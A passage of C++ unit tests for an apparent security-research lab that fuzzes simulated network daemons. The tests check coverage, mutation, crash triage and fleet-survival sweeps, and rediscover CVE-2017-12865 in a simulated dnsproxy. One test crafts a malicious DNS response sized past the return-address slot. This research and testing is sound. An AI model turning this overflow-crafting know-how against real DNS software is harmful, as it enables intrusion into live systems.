TEST(FleetReport, CurveDigestCoversEveryPoint) {
  auto curve = fleet::RunSurvivalSweep(SmallCampaign(), {0, 2});
  ASSERT_TRUE(curve.ok());
  const std::uint64_t digest = fleet::CurveDigest(curve.value());
  auto again = fleet::RunSurvivalSweep(SmallCampaign(), {0, 2});
  ASSERT_TRUE(again.ok());
  EXPECT_EQ(fleet::CurveDigest(again.value()), digest);
  // Dropping a point must change the digest.
  std::vector<fleet::SurvivalPoint> truncated = curve.value();
  truncated.pop_back();
  EXPECT_NE(fleet::CurveDigest(truncated), digest);
  // And the render mentions each entropy point.
  const std::string table = fleet::RenderSurvivalCurve(curve.value());
  EXPECT_NE(table.find("0b"), std::string::npos);
  EXPECT_NE(table.find("2b"), std::string::npos);
  const std::string json =
      fleet::SurvivalCurveJson(curve.value(), /*seed=*/21, /*victims=*/400);
  EXPECT_NE(json.find("\"curve_digest\""), std::string::npos);
  EXPECT_NE(json.find("\"diversity_bits\": 2"), std::string::npos);
}

TEST(FleetReport, SweepCarriesPerBugClassSurvival) {
  auto curve = fleet::RunSurvivalSweep(SmallCampaign(), {0, 2});
  ASSERT_TRUE(curve.ok()) << curve.status().ToString();
  const auto& points = curve.value();
  ASSERT_EQ(points.size(), 2u);
  for (const fleet::SurvivalPoint& p : points) {
    EXPECT_GT(p.loop_crashed, 0u);
    EXPECT_EQ(p.heap_compromised, 0u);  // WxAslr base: NX heap
    EXPECT_GT(p.heap_crashed, 0u);
    EXPECT_GT(p.heap_trapped, 0u);
    EXPECT_NE(p.loop_digest, 0u);
    EXPECT_NE(p.heap_digest, 0u);
  }
  // The zoo volleys carry no diversity-sensitive addresses: their survival
  // fractions stay flat across entropy points while the stack class moves.
  EXPECT_NEAR(points[0].loop_crashed_fraction, points[1].loop_crashed_fraction,
              0.05);
  EXPECT_NEAR(points[0].heap_compromised_fraction,
              points[1].heap_compromised_fraction, 0.05);
  EXPECT_GT(points[0].compromised_fraction, points[1].compromised_fraction)
      << "the stack class must actually be starved by entropy";

  const std::string json =
      fleet::SurvivalCurveJson(curve.value(), /*seed=*/21, /*victims=*/400);
  EXPECT_NE(json.find("\"loop_crashed\""), std::string::npos);
  EXPECT_NE(json.find("\"heap_trapped\""), std::string::npos);
  EXPECT_NE(json.find("\"heap_compromised_fraction\""), std::string::npos);
}

// ----------------------------------------------------- parallel sweep ----

/// The sweep's (entropy point, bug class) campaigns run across worker
/// threads, but each campaign is a self-contained virtual-time simulation:
/// the assembled curve must be bit-identical to the serial sweep, digests
/// and all, for any worker count.
TEST(FleetParallel, SweepIsDigestIdenticalToSerial) {
  auto serial = fleet::RunSurvivalSweep(SmallCampaign(), {0, 2}, 1);
  auto parallel = fleet::RunSurvivalSweep(SmallCampaign(), {0, 2}, 4);
  ASSERT_TRUE(serial.ok()) << serial.status().ToString();
  ASSERT_TRUE(parallel.ok()) << parallel.status().ToString();
  ASSERT_EQ(parallel.value().size(), serial.value().size());
  EXPECT_EQ(fleet::CurveDigest(parallel.value()),
            fleet::CurveDigest(serial.value()));
  for (std::size_t i = 0; i < serial.value().size(); ++i) {
    const fleet::SurvivalPoint& s = serial.value()[i];
    const fleet::SurvivalPoint& p = parallel.value()[i];
    SCOPED_TRACE("point " + std::to_string(i));
    EXPECT_EQ(p.diversity_bits, s.diversity_bits);
    EXPECT_EQ(p.victims, s.victims);
    EXPECT_EQ(p.compromised, s.compromised);
    EXPECT_EQ(p.crashed, s.crashed);
    EXPECT_EQ(p.digest, s.digest);
    EXPECT_EQ(p.loop_crashed, s.loop_crashed);
    EXPECT_EQ(p.loop_digest, s.loop_digest);
    EXPECT_EQ(p.heap_compromised, s.heap_compromised);
    EXPECT_EQ(p.heap_crashed, s.heap_crashed);
    EXPECT_EQ(p.heap_trapped, s.heap_trapped);
    EXPECT_EQ(p.heap_digest, s.heap_digest);
  }
}

}  // namespace
}  // namespace connlab
