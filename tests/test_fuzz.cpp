// Fuzzing subsystem tests: coverage map semantics, mutation operators,
// corpus scheduling, crash triage/minimization/reproducers, and the
// end-to-end campaigns — including the CI-checked rediscovery of
// CVE-2017-12865 in the simulated dnsproxy from benign seeds.
#include <gtest/gtest.h>

#include <cstdio>

#include "src/dns/craft.hpp"
#include "src/dns/message.hpp"
#include "src/fuzz/corpus.hpp"
#include "src/fuzz/coverage.hpp"
#include "src/fuzz/dict.hpp"
#include "src/fuzz/fuzzer.hpp"
#include "src/fuzz/mutator.hpp"
#include "src/fuzz/target.hpp"
#include "src/fuzz/triage.hpp"
#include "src/util/rng.hpp"

namespace connlab::fuzz {
namespace {

using util::Bytes;

// ------------------------------------------------------------- coverage ----

TEST(Coverage, CountClassBuckets) {
  EXPECT_EQ(CountClass(0), 0u);
  EXPECT_EQ(CountClass(1), 1u << 0);
  EXPECT_EQ(CountClass(2), 1u << 1);
  EXPECT_EQ(CountClass(3), 1u << 2);
  EXPECT_EQ(CountClass(4), 1u << 3);
  EXPECT_EQ(CountClass(7), 1u << 3);
  EXPECT_EQ(CountClass(8), 1u << 4);
  EXPECT_EQ(CountClass(31), 1u << 5);
  EXPECT_EQ(CountClass(32), 1u << 6);
  EXPECT_EQ(CountClass(127), 1u << 6);
  EXPECT_EQ(CountClass(128), 1u << 7);
  EXPECT_EQ(CountClass(255), 1u << 7);
}

TEST(Coverage, AbsorbDistinguishesNewEdgeFromNewClass) {
  CoverageMap virgin;
  CoverageMap exec;
  exec.AddFeature(100);
  exec.Classify();
  EXPECT_EQ(exec.AbsorbInto(virgin), 2);  // brand-new edge
  EXPECT_EQ(exec.AbsorbInto(virgin), 0);  // nothing new the second time

  CoverageMap exec2;
  for (int i = 0; i < 5; ++i) exec2.AddFeature(100);  // count class 4-7
  exec2.Classify();
  EXPECT_EQ(exec2.AbsorbInto(virgin), 1);  // known edge, new class
  EXPECT_EQ(exec2.AbsorbInto(virgin), 0);
}

TEST(Coverage, MergeIsOrderIndependent) {
  CoverageMap a;
  CoverageMap b;
  for (int i = 0; i < 3; ++i) a.AddFeature(7);
  a.AddFeature(900);
  b.AddFeature(7);
  b.AddFeature(12345);
  a.Classify();
  b.Classify();

  CoverageMap ab;
  ab.MergeClassified(a);
  ab.MergeClassified(b);
  CoverageMap ba;
  ba.MergeClassified(b);
  ba.MergeClassified(a);
  EXPECT_EQ(ab.Digest(), ba.Digest());
  EXPECT_EQ(ab.CountNonZero(), 3u);
}

TEST(Coverage, SaturatesAt255) {
  CoverageMap map;
  for (int i = 0; i < 1000; ++i) map.AddFeature(9);
  EXPECT_EQ(map.data()[9], 0xFF);
}

// -------------------------------------------------------------- mutator ----

Bytes DnsSeed() {
  dns::Message query = dns::Message::Query(0x4655, "fuzz.example.com");
  dns::Message response = dns::Message::ResponseFor(query);
  response.answers.push_back(dns::MakeA("fuzz.example.com", "10.0.0.1", 60));
  return dns::Encode(response).value();
}

TEST(Mutator, NeverTouchesFixedPrefix) {
  const Bytes seed = DnsSeed();
  const std::size_t prefix = dns::kHeaderSize + 18 + 4;  // header + question
  MutationHint hint{prefix, /*dns=*/true, /*max_size=*/4096};
  Mutator mutator(util::Rng(99));
  for (int i = 0; i < 500; ++i) {
    const Bytes mutant = mutator.Mutate(seed, hint, seed);
    ASSERT_GE(mutant.size(), prefix);
    ASSERT_LE(mutant.size(), hint.max_size);
    for (std::size_t b = 0; b < prefix; ++b) {
      // Bytes 6-7 (ancount) are the documented exception: the services
      // never echo-check them, and BumpAnswerCount edits them on purpose.
      if (b == 6 || b == 7) continue;
      ASSERT_EQ(mutant[b], seed[b]) << "prefix byte " << b << " iter " << i;
    }
  }
}

TEST(Mutator, GrowLabelStaysWithin0x3F) {
  const Bytes seed = DnsSeed();
  const std::size_t start = dns::kHeaderSize + 18 + 4;
  util::Rng rng(5);
  for (int i = 0; i < 200; ++i) {
    const Bytes grown = Mutator::GrowLabel(seed, start, rng);
    ASSERT_GE(grown.size(), seed.size());
    // Every label length byte reachable from start stays <= 63.
    std::size_t pos = start;
    while (pos < grown.size()) {
      const std::uint8_t len = grown[pos];
      if (len == 0 || (len & dns::kCompressionFlags) != 0) break;
      ASSERT_LE(len, dns::kMaxLabelLen);
      pos += 1 + len;
    }
  }
}

TEST(Mutator, PlantCompressionPointerPlantsOne) {
  const Bytes seed = DnsSeed();
  const std::size_t start = dns::kHeaderSize + 18 + 4;
  util::Rng rng(5);
  bool planted = false;
  for (int i = 0; i < 50 && !planted; ++i) {
    const Bytes mutant = Mutator::PlantCompressionPointer(seed, start, rng);
    for (std::size_t pos = start; pos < mutant.size(); ++pos) {
      if ((mutant[pos] & dns::kCompressionFlags) == dns::kCompressionFlags) {
        planted = true;
        break;
      }
    }
  }
  EXPECT_TRUE(planted);
}

TEST(Mutator, BumpAnswerCountOnlyTouchesHeaderCount) {
  const Bytes seed = DnsSeed();
  util::Rng rng(5);
  const Bytes bumped = Mutator::BumpAnswerCount(seed, rng);
  ASSERT_EQ(bumped.size(), seed.size());
  for (std::size_t i = 0; i < seed.size(); ++i) {
    if (i == 6 || i == 7) continue;
    EXPECT_EQ(bumped[i], seed[i]) << i;
  }
  const std::uint16_t ancount =
      static_cast<std::uint16_t>((bumped[6] << 8) | bumped[7]);
  EXPECT_GE(ancount, 1);
}

TEST(Mutator, DeterministicForSameRngSeed) {
  const Bytes seed = DnsSeed();
  MutationHint hint{12, true, 4096};
  Mutator a(util::Rng(77));
  Mutator b(util::Rng(77));
  for (int i = 0; i < 100; ++i) {
    EXPECT_EQ(a.Mutate(seed, hint), b.Mutate(seed, hint)) << i;
  }
}

// --------------------------------------------------------------- corpus ----

TEST(Corpus, DedupsIdenticalEntries) {
  Corpus corpus;
  EXPECT_TRUE(corpus.Add(Bytes{1, 2, 3}, 2, 0));
  EXPECT_FALSE(corpus.Add(Bytes{1, 2, 3}, 2, 5));
  EXPECT_TRUE(corpus.Add(Bytes{1, 2, 4}, 1, 6));
  EXPECT_EQ(corpus.size(), 2u);
}

TEST(Corpus, WeightsFavourNoveltyAndSmallness) {
  Corpus corpus;
  corpus.Add(Bytes(100, 0xAA), 2, 0);   // new edge, small
  corpus.Add(Bytes(100, 0xBB), 1, 0);   // new class only, small
  corpus.Add(Bytes(4000, 0xCC), 2, 0);  // new edge, large
  EXPECT_GT(corpus.WeightOf(0), corpus.WeightOf(1));
  EXPECT_GT(corpus.WeightOf(0), corpus.WeightOf(2));
  EXPECT_GT(corpus.EnergyFor(0), corpus.EnergyFor(1));
}

TEST(Corpus, PickSequenceDeterministic) {
  const auto run = [] {
    Corpus corpus;
    corpus.Add(Bytes{1}, 2, 0);
    corpus.Add(Bytes{2}, 1, 0);
    corpus.Add(Bytes{3}, 2, 0);
    util::Rng rng(31);
    std::vector<std::size_t> picks;
    for (int i = 0; i < 50; ++i) picks.push_back(corpus.PickIndex(rng));
    return picks;
  };
  EXPECT_EQ(run(), run());
}

// --------------------------------------------------------------- triage ----

TEST(Triage, FormatKeyMentionsEverything) {
  CrashKey key{ExecResult::Kind::kCrash, vm::StopReason::kFault, 0x8048024,
               true, 0x1234};
  const std::string s = FormatCrashKey(key);
  EXPECT_NE(s.find("crash"), std::string::npos);
  EXPECT_NE(s.find("fault"), std::string::npos);
  EXPECT_NE(s.find("08048024"), std::string::npos);
  EXPECT_NE(s.find("write"), std::string::npos);
}

TEST(Triage, MergeAccumulatesAndPrefersEarlierWitness) {
  CrashKey key{ExecResult::Kind::kCrash, vm::StopReason::kFault, 0x100, true,
               7};
  CrashBucket early{key, Bytes{1}, Bytes{1}, {}, 3, 10};
  CrashBucket late{key, Bytes{2}, Bytes{2}, {}, 5, 99};
  CrashTriage a;
  a.buckets().push_back(late);
  CrashTriage b;
  b.buckets().push_back(early);
  a.Merge(b);
  ASSERT_EQ(a.buckets().size(), 1u);
  EXPECT_EQ(a.buckets()[0].hits, 8u);
  EXPECT_EQ(a.buckets()[0].first_exec, 10u);
  EXPECT_EQ(a.buckets()[0].witness, Bytes{1});

  CrashTriage c;  // disjoint key appends
  CrashKey other = key;
  other.pc = 0x200;
  c.buckets().push_back({other, Bytes{3}, Bytes{3}, {}, 1, 1});
  a.Merge(c);
  EXPECT_EQ(a.buckets().size(), 2u);
}

TEST(Reproducer, SerializeParseRoundTrip) {
  TargetConfig config;
  config.kind = TargetKind::kMinimasq;
  config.arch = isa::Arch::kVARM;
  config.boot_seed = 99;
  config.patched = true;
  CrashBucket bucket;
  bucket.key = {ExecResult::Kind::kCrash, vm::StopReason::kFault, 0xdeadbeef,
                true, 0xabcdef0123456789ULL};
  bucket.witness = Bytes{0, 1, 2, 0xFF};
  bucket.minimized = Bytes{0xC0, 0x0C};
  const std::string text = SerializeReproducer(config, bucket);
  auto parsed = ParseReproducer(text);
  ASSERT_TRUE(parsed.ok()) << parsed.status().ToString();
  const Reproducer& repro = parsed.value();
  EXPECT_EQ(repro.config.kind, TargetKind::kMinimasq);
  EXPECT_EQ(repro.config.arch, isa::Arch::kVARM);
  EXPECT_EQ(repro.config.boot_seed, 99u);
  EXPECT_TRUE(repro.config.patched);
  EXPECT_EQ(repro.key, bucket.key);
  EXPECT_EQ(repro.input, bucket.minimized);

  EXPECT_FALSE(ParseReproducer("not a reproducer").ok());
}

// -------------------------------------------------------------- targets ----

TEST(Target, KindNamesRoundTrip) {
  for (const TargetKind kind :
       {TargetKind::kDnsproxy, TargetKind::kMinimasq, TargetKind::kHttpcamd,
        TargetKind::kResolvd, TargetKind::kCamstored}) {
    auto parsed = ParseTargetKind(TargetKindName(kind));
    ASSERT_TRUE(parsed.ok());
    EXPECT_EQ(parsed.value(), kind);
  }
  EXPECT_FALSE(ParseTargetKind("floppyd").ok());
}

TEST(Target, SeedCorporaAreBenign) {
  for (const TargetKind kind :
       {TargetKind::kDnsproxy, TargetKind::kMinimasq, TargetKind::kHttpcamd,
        TargetKind::kResolvd, TargetKind::kCamstored}) {
    TargetConfig config;
    config.kind = kind;
    auto target = MakeTarget(config);
    ASSERT_TRUE(target.ok()) << target.status().ToString();
    CoverageMap map;
    for (const Bytes& seed : target.value()->SeedCorpus()) {
      const ExecResult result = target.value()->Execute(seed, map);
      EXPECT_EQ(result.kind, ExecResult::Kind::kBenign)
          << TargetKindName(kind) << ": " << result.detail;
    }
    EXPECT_GT(map.CountNonZero(), 0u) << TargetKindName(kind);
  }
}

// ---------------------------------------------------- the CVE rediscovery --

// The headline guarantee: from benign seeds only, a fixed-seed campaign of
// at most 200k executions rediscovers CVE-2017-12865 — a deduplicated
// crash bucket at the get_name copy site whose minimized reproducer is in
// the same size class as the hand-crafted malicious response.
TEST(Fuzzer, RediscoversCve201712865InDnsproxy) {
  FuzzConfig config;
  config.target.kind = TargetKind::kDnsproxy;
  config.seed = 42;
  config.max_execs = 20000;  // well under the 200k ceiling
  config.workers = 1;
  auto report_or = Fuzzer(config).Run();
  ASSERT_TRUE(report_or.ok()) << report_or.status().ToString();
  FuzzReport& report = report_or.value();

  EXPECT_EQ(report.stats.execs, 20000u);
  ASSERT_GE(report.triage.buckets().size(), 1u);
  EXPECT_GT(report.stats.crashing_execs,
            report.triage.buckets().size());  // dedup actually deduped

  // Find the overflow-site bucket (fault inside connman.copy_label).
  auto target = MakeTarget(config.target);
  ASSERT_TRUE(target.ok());
  const CrashBucket* overflow_bucket = nullptr;
  for (const CrashBucket& bucket : report.triage.buckets()) {
    if (target.value()->AtOverflowSite(bucket.key.pc) &&
        bucket.key.stop_reason == vm::StopReason::kFault) {
      overflow_bucket = &bucket;
      break;
    }
  }
  ASSERT_NE(overflow_bucket, nullptr)
      << "no bucket at the get_name overflow site";

  // The minimized reproducer still triggers the overflow, in the same
  // bucket core, and reports the stack overflow the paper describes.
  CoverageMap scratch;
  const ExecResult replay =
      target.value()->Execute(overflow_bucket->minimized, scratch);
  EXPECT_NE(replay.kind, ExecResult::Kind::kBenign);
  EXPECT_TRUE(replay.overflow);
  EXPECT_GT(replay.bytes_expanded, 1024u);  // past the name buffer
  EXPECT_TRUE(KeyFor(replay, *target.value())
                  .CoreMatches(overflow_bucket->key));

  // Size class: no worse than 2x the hand-crafted malicious response.
  dns::Message query = dns::Message::Query(0x4655, "fuzz.example.com");
  auto junk = dns::JunkLabels(1100);  // just past the 1056-byte ret slot
  ASSERT_TRUE(junk.ok());
  auto crafted =
      dns::Encode(dns::MaliciousAResponse(query, junk.value()));
  ASSERT_TRUE(crafted.ok());
  EXPECT_LE(overflow_bucket->minimized.size(), 2 * crafted.value().size());
  EXPECT_LE(overflow_bucket->minimized.size(), overflow_bucket->witness.size());

  // Serialized reproducer round-trips and replays.
  const std::string text = SerializeReproducer(config.target, *overflow_bucket);
  auto parsed = ParseReproducer(text);
  ASSERT_TRUE(parsed.ok()) << parsed.status().ToString();
  auto replayed = ReplayReproducer(parsed.value());
  ASSERT_TRUE(replayed.ok()) << replayed.status().ToString();
  EXPECT_TRUE(replayed.value().overflow);
}

TEST(Fuzzer, MultiWorkerRunsAreDeterministic) {
  FuzzConfig config;
  config.target.kind = TargetKind::kDnsproxy;
  config.seed = 5;
  config.max_execs = 6000;
  config.workers = 3;
  config.minimize = false;
  auto first = Fuzzer(config).Run();
  auto second = Fuzzer(config).Run();
  ASSERT_TRUE(first.ok());
  ASSERT_TRUE(second.ok());
  EXPECT_EQ(first.value().stats.execs, second.value().stats.execs);
  EXPECT_EQ(first.value().stats.crashing_execs,
            second.value().stats.crashing_execs);
  EXPECT_EQ(first.value().stats.coverage_digest,
            second.value().stats.coverage_digest);
  ASSERT_EQ(first.value().triage.buckets().size(),
            second.value().triage.buckets().size());
  for (std::size_t i = 0; i < first.value().triage.buckets().size(); ++i) {
    EXPECT_EQ(first.value().triage.buckets()[i].key,
              second.value().triage.buckets()[i].key);
    EXPECT_EQ(first.value().triage.buckets()[i].witness,
              second.value().triage.buckets()[i].witness);
  }
}

FuzzConfig EightWorkerConfig() {
  FuzzConfig config;
  config.target.kind = TargetKind::kDnsproxy;
  config.seed = 42;
  config.max_execs = 8000;  // 1000 per worker
  config.workers = 8;
  config.sync_interval = 250;  // several epoch exchanges per worker
  config.minimize = false;
  return config;
}

TEST(Fuzzer, EightWorkerCampaignsAreScheduleIndependent) {
  // The strong determinism contract: with epoch sync on, repeated
  // eight-worker campaigns are BYTE-identical — same merged corpus bytes,
  // same coverage digest, same bucket set — no matter how the OS schedules
  // the worker threads between barriers.
  auto first = Fuzzer(EightWorkerConfig()).Run();
  auto second = Fuzzer(EightWorkerConfig()).Run();
  ASSERT_TRUE(first.ok()) << first.status().ToString();
  ASSERT_TRUE(second.ok()) << second.status().ToString();
  EXPECT_EQ(first.value().stats.execs, second.value().stats.execs);
  EXPECT_EQ(first.value().stats.coverage_digest,
            second.value().stats.coverage_digest);
  EXPECT_EQ(SerializeCorpus(first.value().corpus),
            SerializeCorpus(second.value().corpus));
  ASSERT_EQ(first.value().triage.buckets().size(),
            second.value().triage.buckets().size());
  for (std::size_t i = 0; i < first.value().triage.buckets().size(); ++i) {
    EXPECT_EQ(first.value().triage.buckets()[i].key,
              second.value().triage.buckets()[i].key);
    EXPECT_EQ(first.value().triage.buckets()[i].witness,
              second.value().triage.buckets()[i].witness);
  }
}

TEST(Fuzzer, EightWorkerCampaignMatchesReferenceDigest) {
  // Pinned outcome for (seed=42, workers=8, 8000 execs, sync every 250):
  // determinism must hold not just within one binary but across rebuilds
  // and machines. The corpus digest is the discriminating one — dnsproxy
  // coverage saturates quickly, but the merged corpus bytes encode the
  // whole mutation trajectory. If an intentional behaviour change moves
  // these, re-pin them in the same commit and say so — an UNintentional
  // move means scheduling leaked into the campaign.
  constexpr std::uint64_t kCoverageDigest = 0xd8788bc796ab373cULL;
  constexpr std::uint64_t kCorpusDigest = 0x9c372e9e5056301aULL;
  auto report = Fuzzer(EightWorkerConfig()).Run();
  ASSERT_TRUE(report.ok()) << report.status().ToString();
  EXPECT_EQ(report.value().stats.coverage_digest, kCoverageDigest)
      << std::hex << report.value().stats.coverage_digest;
  std::uint64_t corpus_digest = 0xcbf29ce484222325ULL;  // FNV-1a 64
  for (const char c : SerializeCorpus(report.value().corpus)) {
    corpus_digest ^= static_cast<std::uint8_t>(c);
    corpus_digest *= 0x100000001b3ULL;
  }
  EXPECT_EQ(corpus_digest, kCorpusDigest) << std::hex << corpus_digest;
}

TEST(Fuzzer, SyncDisabledCampaignsAreStillDeterministic) {
  // sync_interval = 0 turns cross-worker corpus sharing off entirely;
  // workers explore independently and only the final merge joins them.
  // That mode has its own (different) deterministic outcome.
  FuzzConfig config = EightWorkerConfig();
  config.sync_interval = 0;
  auto first = Fuzzer(config).Run();
  auto second = Fuzzer(config).Run();
  ASSERT_TRUE(first.ok());
  ASSERT_TRUE(second.ok());
  EXPECT_EQ(first.value().stats.coverage_digest,
            second.value().stats.coverage_digest);
  EXPECT_EQ(SerializeCorpus(first.value().corpus),
            SerializeCorpus(second.value().corpus));
}

TEST(Fuzzer, PatchedDnsproxySurvivesTheSameCampaign) {
  FuzzConfig config;
  config.target.kind = TargetKind::kDnsproxy;
  config.target.patched = true;
  config.seed = 42;  // the very seed that kills the vulnerable build
  config.max_execs = 10000;
  config.minimize = false;
  auto report = Fuzzer(config).Run();
  ASSERT_TRUE(report.ok());
  EXPECT_EQ(report.value().stats.crashing_execs, 0u);
  EXPECT_TRUE(report.value().triage.buckets().empty());
}

TEST(Fuzzer, FindsMinimasqOverflow) {
  FuzzConfig config;
  config.target.kind = TargetKind::kMinimasq;
  config.seed = 7;
  config.max_execs = 12000;
  config.stop_after_crashes = 1;
  auto report = Fuzzer(config).Run();
  ASSERT_TRUE(report.ok());
  ASSERT_GE(report.value().triage.buckets().size(), 1u);
  const CrashBucket& bucket = report.value().triage.buckets()[0];
  // Minimized witness still crashes minimasq in the same bucket core.
  auto target = MakeTarget(config.target);
  ASSERT_TRUE(target.ok());
  CoverageMap scratch;
  const ExecResult replay = target.value()->Execute(bucket.minimized, scratch);
  EXPECT_NE(replay.kind, ExecResult::Kind::kBenign);
  EXPECT_TRUE(KeyFor(replay, *target.value()).CoreMatches(bucket.key));
}

TEST(Fuzzer, FindsHttpcamdOverflow) {
  FuzzConfig config;
  config.target.kind = TargetKind::kHttpcamd;
  config.seed = 7;
  config.max_execs = 30000;
  config.stop_after_crashes = 1;
  config.minimize = false;
  auto report = Fuzzer(config).Run();
  ASSERT_TRUE(report.ok());
  EXPECT_GE(report.value().triage.buckets().size(), 1u);
}

// Bounded-budget rediscovery for the pointer-loop bug class: from benign
// resolvd queries only, a tiny fixed-seed campaign plants a self-referencing
// compression pointer and drives the resolver into stack exhaustion.
TEST(Fuzzer, RediscoversResolvdPointerLoop) {
  FuzzConfig config;
  config.target.kind = TargetKind::kResolvd;
  config.seed = 42;
  config.max_execs = 2000;
  config.workers = 1;
  config.stop_after_crashes = 1;
  auto report = Fuzzer(config).Run();
  ASSERT_TRUE(report.ok()) << report.status().ToString();
  ASSERT_GE(report.value().triage.buckets().size(), 1u);
  const CrashBucket& bucket = report.value().triage.buckets()[0];

  auto target = MakeTarget(config.target);
  ASSERT_TRUE(target.ok());
  CoverageMap scratch;
  const ExecResult replay = target.value()->Execute(bucket.minimized, scratch);
  EXPECT_NE(replay.kind, ExecResult::Kind::kBenign);
  EXPECT_TRUE(KeyFor(replay, *target.value()).CoreMatches(bucket.key));
}

// Bounded-budget rediscovery for the heap-metadata bug class: benign PUT
// requests mutate into an oversized in-place update that faults inside the
// allocator when the stomped chunk is freed. The daemon keeps heap state
// across executions, so the crash is a *sequence* property — the witness
// alone replays benign on a fresh boot (which is why no replay is asserted
// here). Observed budget at this seed is ~6k execs; 20k gives headroom.
TEST(Fuzzer, RediscoversCamstoredHeapCorruption) {
  FuzzConfig config;
  config.target.kind = TargetKind::kCamstored;
  config.seed = 42;
  config.max_execs = 20000;
  config.workers = 1;
  config.stop_after_crashes = 1;
  config.minimize = false;  // minimization replays single inputs: stateful
  auto report = Fuzzer(config).Run();
  ASSERT_TRUE(report.ok()) << report.status().ToString();
  EXPECT_GE(report.value().stats.crashing_execs, 1u);
  EXPECT_LT(report.value().stats.execs, 20000u)
      << "stop_after_crashes should have ended the campaign early";
  ASSERT_GE(report.value().triage.buckets().size(), 1u);
  const CrashBucket& bucket = report.value().triage.buckets()[0];
  // The fault is the allocator tripping over stomped metadata, not a
  // parser crash: the detail names the free path.
  EXPECT_NE(bucket.first_result.detail.find("free"), std::string::npos)
      << bucket.first_result.detail;
}

TEST(Fuzzer, RejectsDegenerateConfigs) {
  FuzzConfig config;
  config.workers = 0;
  EXPECT_FALSE(Fuzzer(config).Run().ok());
  config.workers = 64;
  config.max_execs = 10;
  EXPECT_FALSE(Fuzzer(config).Run().ok());
}

/// A budget that doesn't divide evenly must still be spent exactly: the
/// remainder execs go to the first max_execs % workers workers instead of
/// being silently dropped.
TEST(Fuzzer, IndivisibleBudgetIsSpentExactly) {
  FuzzConfig config;
  config.target.kind = TargetKind::kDnsproxy;
  config.seed = 5;
  config.max_execs = 150;  // 150 = 7*21 + 3: three workers run one extra
  config.workers = 7;
  config.minimize = false;
  auto report = Fuzzer(config).Run();
  ASSERT_TRUE(report.ok());
  EXPECT_EQ(report.value().stats.execs, 150u);

  // Evenly divisible budgets are untouched by the remainder logic.
  config.max_execs = 140;
  auto even = Fuzzer(config).Run();
  ASSERT_TRUE(even.ok());
  EXPECT_EQ(even.value().stats.execs, 140u);
}

// ------------------------------------------------- corpus persistence ----

TEST(CorpusPersistence, SerializeDeserializeRoundTrip) {
  Corpus corpus;
  corpus.Add(Bytes{0x00, 0xFF, 0x41}, 2, 7);
  corpus.Add(Bytes{0xC0, 0x0C}, 1, 123456);
  corpus.Add(Bytes{}, 1, 0);  // empty entry survives too

  auto back = DeserializeCorpus(SerializeCorpus(corpus));
  ASSERT_TRUE(back.ok()) << back.status().ToString();
  ASSERT_EQ(back.value().size(), corpus.size());
  for (std::size_t i = 0; i < corpus.size(); ++i) {
    EXPECT_EQ(back.value().entry(i).data, corpus.entry(i).data) << i;
    EXPECT_EQ(back.value().entry(i).news, corpus.entry(i).news) << i;
    EXPECT_EQ(back.value().entry(i).found_at, corpus.entry(i).found_at) << i;
    EXPECT_EQ(back.value().entry(i).picks, 0u) << i;  // per-campaign state
  }
}

TEST(CorpusPersistence, SaveLoadFileRoundTrip) {
  const std::string path = "test_corpus_roundtrip.tmp";
  Corpus corpus;
  corpus.Add(Bytes{1, 2, 3, 4}, 2, 9);
  ASSERT_TRUE(SaveCorpus(corpus, path).ok());
  auto loaded = LoadCorpus(path);
  std::remove(path.c_str());
  ASSERT_TRUE(loaded.ok()) << loaded.status().ToString();
  ASSERT_EQ(loaded.value().size(), 1u);
  EXPECT_EQ(loaded.value().entry(0).data, (Bytes{1, 2, 3, 4}));
}

TEST(CorpusPersistence, RejectsGarbage) {
  EXPECT_FALSE(DeserializeCorpus("not a corpus").ok());
  EXPECT_FALSE(DeserializeCorpus("connlab-corpus v1\nentry nope\n").ok());
  EXPECT_FALSE(
      DeserializeCorpus("connlab-corpus v1\n"
                        "entry news=1 found_at=0 size=4\nzzzz\n")
          .ok());
  EXPECT_FALSE(LoadCorpus("does_not_exist.corpus").ok());
}

TEST(CorpusPersistence, CampaignSavesAndResumes) {
  const std::string path = "test_corpus_campaign.tmp";
  std::remove(path.c_str());

  FuzzConfig config;
  config.target.kind = TargetKind::kDnsproxy;
  config.seed = 11;
  config.max_execs = 3000;
  config.minimize = false;
  config.corpus_path = path;
  auto first = Fuzzer(config).Run();
  ASSERT_TRUE(first.ok()) << first.status().ToString();
  EXPECT_GT(first.value().corpus.size(), 0u);

  // The file now holds the merged corpus...
  auto persisted = LoadCorpus(path);
  ASSERT_TRUE(persisted.ok()) << persisted.status().ToString();
  EXPECT_EQ(persisted.value().size(), first.value().corpus.size());

  // ...and a resumed campaign seeds from it (the persisted entries join the
  // seed round, so the second run executes at least as many seeds).
  config.seed = 12;  // different stream, same accumulated corpus
  auto second = Fuzzer(config).Run();
  std::remove(path.c_str());
  ASSERT_TRUE(second.ok()) << second.status().ToString();
  EXPECT_GE(second.value().corpus.size(), first.value().corpus.size());
}

// ----------------------------------------------------- corpus distillation --

TEST(Distillation, PreservesCoverageAndDropsRedundantEntries) {
  FuzzConfig config;
  config.target.kind = TargetKind::kDnsproxy;
  config.seed = 11;
  config.max_execs = 3000;
  config.minimize = false;
  auto report = Fuzzer(config).Run();
  ASSERT_TRUE(report.ok()) << report.status().ToString();
  const Corpus& full = report.value().corpus;
  ASSERT_GT(full.size(), 1u);

  auto distilled = DistillCorpus(full, config.target);
  ASSERT_TRUE(distilled.ok()) << distilled.status().ToString();
  EXPECT_GT(distilled.value().size(), 0u);
  EXPECT_LE(distilled.value().size(), full.size());

  // The kept set covers everything the full corpus covers.
  auto target = MakeTarget(config.target);
  ASSERT_TRUE(target.ok());
  const auto cover = [&](const Corpus& c) {
    CoverageMap merged;
    for (std::size_t i = 0; i < c.size(); ++i) {
      CoverageMap map;
      target.value()->Execute(c.entry(i).data, map);
      map.Classify();
      merged.MergeClassified(map);
    }
    return merged.Digest();
  };
  EXPECT_EQ(cover(distilled.value()), cover(full));

  // Deterministic: same corpus in, same kept set out.
  auto again = DistillCorpus(full, config.target);
  ASSERT_TRUE(again.ok());
  ASSERT_EQ(again.value().size(), distilled.value().size());
  for (std::size_t i = 0; i < again.value().size(); ++i) {
    EXPECT_EQ(again.value().entry(i).data, distilled.value().entry(i).data);
  }

  // An entry contributing nothing new is dropped, not kept.
  Corpus padded;
  for (std::size_t i = 0; i < full.size(); ++i) {
    padded.Add(full.entry(i).data, full.entry(i).news, full.entry(i).found_at);
  }
  Bytes dup = full.entry(0).data;
  dup.push_back(dup.empty() ? 0 : dup.back());  // same edges, new bytes
  padded.Add(dup, 1, 9999);
